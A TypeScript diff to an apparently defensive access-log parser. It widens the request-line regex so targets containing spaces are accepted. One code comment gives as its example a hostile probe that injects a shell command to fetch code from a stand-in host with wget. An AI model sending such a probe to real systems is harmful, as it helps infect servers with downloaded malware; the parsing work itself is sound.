@@ -36,9 +36,15 @@ function timed(field: TimeField, record: Omit<AccessRecord, 'time' | 'unreadable
   return { time: field.time, ...(field.unreadable ? { unreadableTime: true } : {}), ...record };
 }
 
+// A request line as the client sent it: the target runs to ` HTTP/x` and may hold spaces (a client
+// that does not encode them: ALB classifies such a request `SpaceInUri`, nginx and Apache log it as
+// it came, `"GET /shell?cd+/tmp;wget+ a.example/x HTTP/1.1"`). The lazy target and the fixed
+// protocol suffix match in one pass (no nested repetition), so a long line cannot backtrack long.
+const REQUEST_LINE = /^([A-Z][A-Z0-9_-]*) (\S.*?)(?: HTTP\/[\d.]+)?$/;
+
 /** `"POST /path?x HTTP/1.1"` → method and target; undefined for junk (TLS bytes sent to port 80). */
 export function splitRequestLine(request: string): { method: string; target: string } | undefined {
-  const m = /^([A-Z][A-Z0-9_-]*) (\S+)(?: HTTP\/[\d.]+)?$/.exec(request.trim());
+  const m = REQUEST_LINE.exec(request.trim());
   return m ? { method: m[1]!, target: m[2]! } : undefined;
 }
 
